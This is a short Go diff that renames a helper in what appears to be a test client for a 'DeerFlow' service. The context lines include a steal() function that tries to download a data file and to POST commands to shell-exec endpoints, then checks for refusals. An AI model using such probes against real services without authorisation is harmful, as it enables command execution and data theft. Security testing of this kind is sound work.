@@ -154,7 +154,7 @@ func (c *deerFlowClient) command() {
 
 func (c *deerFlowClient) program(route string, body map[string]any) {
 	b := c.box()
-	token, code := c.code()
+	token, code := c.script()
 	body["command"] = code
 	req := c.inside(b, http.MethodPost, route)
 	req.body(body)
@@ -258,7 +258,7 @@ func (c *deerFlowClient) steal() {
 		c.ask(e, c.inside(b, http.MethodGet, "/file/download?path="+deerFlowData), readDeerFlowRefusal)
 		return
 	}
-	_, code := c.code()
+	_, code := c.script()
 	req := c.inside(b, http.MethodPost, []string{"/shell/exec", "/bash/exec"}[c.random.IntN(2)])
 	req.body(map[string]any{"command": code})
 	c.ask(e, req, readDeerFlowRefusal)
